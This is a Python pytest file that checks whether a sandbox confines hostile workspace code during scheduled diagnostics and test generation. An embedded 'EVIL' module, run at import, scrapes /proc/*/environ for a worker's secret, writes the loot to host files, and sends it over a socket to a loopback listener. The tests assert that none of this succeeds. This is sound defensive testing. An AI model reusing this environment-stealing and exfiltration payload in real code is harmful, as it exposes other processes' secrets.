"""Attack: a workspace whose code, when a scheduled diagnostic or test generation runs it, tries to
write on the host outside its scratch tree, dial a listener on the host's loopback, and read the
worker's environment (a secret only the worker process has). Real worker processes, real git,
real sandboxes at the workspace's isolation level."""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from healing.sandbox_probe import bubblewrap_works
from selfdebug.models import DiagnosticRun, FixProposal
from selfdebug.tasks import schedule_diagnostics
from tests import factories
from tests.conftest import _database_url_for_tests
from tests.sandbox_helpers import loopback_listener

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]
ROOT = Path(__file__).resolve().parents[2]
SECRET_NAME = "SELFHEAL_ATTACK_SECRET"

# Runs at import: by the workspace's tests, and by the ghostwriter (which imports the module).
EVIL = """
import glob, os, pathlib, socket

def _steal():
    found = os.environ.get({name!r}, "")
    for path in glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as fh:
                items = fh.read().split(b"\\0")
        except OSError:
            continue
        for item in items:
            if item.startswith({name!r}.encode() + b"="):
                found = found or item.split(b"=", 1)[1].decode()
    return found

LOOT = _steal()
for target in {outside!r}:
    try:
        pathlib.Path(target).write_text("pwned " + LOOT)
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(("pwned " + LOOT).encode())
except OSError:
    pass


def double(x: int) -> int:
    return x * 2
"""

TESTS = """
import evil


def test_double():
    assert evil.double(2) == 5  # a failure: the diagnostic reruns it


def test_loot():
    assert evil.LOOT == "", evil.LOOT  # what was stolen would reach the report
"""

LEVELS = [
    "partial",
    pytest.param(
        "full",
        marks=pytest.mark.skipif(not bubblewrap_works()[0], reason="bubblewrap does not work here"),
    ),
]


def _worker(call: str, secret: str) -> None:
    """`call` in a worker process of its own, whose environment holds the secret."""
    script = f"import django\ndjango.setup()\n{call}\n"
    env = dict(os.environ, DATABASE_URL=_database_url_for_tests(), **{SECRET_NAME: secret})
    done = subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]


def _attack(tmp_path: Path, level: str) -> dict[str, Any]:
    """Run a scheduled diagnostic and a test generation on the hostile workspace; what leaked."""
    secret = secrets.token_hex(16)
    host_files = [tmp_path / "loot.txt", tmp_path / "r" / "PWNED.txt"]
    with loopback_listener() as (port, accepted):
        evil = EVIL.format(name=SECRET_NAME, outside=[str(p) for p in host_files], port=port)
        repo = factories.make_git_repo(tmp_path / "r", {"evil.py": evil, "test_evil.py": TESTS})
        workspace = factories.make_workspace(repo, isolation_level=level)
        workspace.policy_overrides = {
            "diagnostics.isolation_budget": 2,
            "diagnostics.search_budget": 1,
            "diagnostics.static_analysis": False,
        }
        workspace.save(update_fields=["policy_overrides"])
        [run_id] = schedule_diagnostics()
        _worker(
            f"from selfdebug.tasks import run_diagnostics\nrun_diagnostics({run_id})",
            secret,
        )
        _worker(
            f"from selfdebug.tasks import generate_tests\ngenerate_tests({workspace.pk}, 'evil')",
            secret,
        )
        connections = list(accepted)
    run = DiagnosticRun.objects.get(pk=run_id)
    proposals = list(FixProposal.objects.filter(workspace=workspace).values())
    stored = json.dumps([run.report, run.log, run.error, proposals], default=str)
    return {
        "run": run,
        "proposals": proposals,
        "written": [str(p) for p in host_files if p.exists()],
        "secret_written": any(p.exists() and secret in p.read_text() for p in host_files),
        "connections": connections,
        "secret_stored": secret in stored,
    }


@pytest.mark.parametrize("level", LEVELS)
def test_it_keeps_hostile_workspace_code_off_the_network_and_the_workers_environment(
    tmp_path: Path, level: str
) -> None:
    seen = _attack(tmp_path, level)
    run = seen["run"]
    # The workspace's code did run, in the diagnostic and in the ghostwriter...
    assert run.status == "done", run.error
    assert run.total == 2 and run.failed == 1, run.report
    assert any(p["origin"] == "testgen" for p in seen["proposals"]), seen["proposals"]
    # ... and reached neither the host's loopback nor the worker's secret.
    assert seen["connections"] == []
    assert not seen["secret_stored"] and not seen["secret_written"]
    if level == "full":
        assert seen["written"] == []


def test_it_keeps_hostile_workspace_code_from_writing_on_the_host_under_partial(
    tmp_path: Path,
) -> None:
    seen = _attack(tmp_path, "partial")
    assert seen["run"].status == "done", seen["run"].error
    assert seen["written"] == []
